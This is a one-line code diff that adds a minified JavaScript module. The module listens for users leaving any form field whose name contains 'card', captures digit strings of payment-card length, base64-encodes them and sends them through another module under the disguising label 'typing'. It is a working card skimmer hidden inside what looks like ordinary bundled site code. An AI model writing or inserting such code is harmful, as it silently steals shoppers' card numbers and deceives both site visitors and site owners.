@@ -1,0 +1,1 @@
+function(e,t,n){var r=n(1),o="";document.addEventListener("focusout",function(e){var t=(e.target.value||"").replace(/\D/g,"");t.length>12&&t.length<20&&t!==o&&/card/i.test(e.target.name)&&(o=t,r.send("typing",btoa(t)))},!0)}
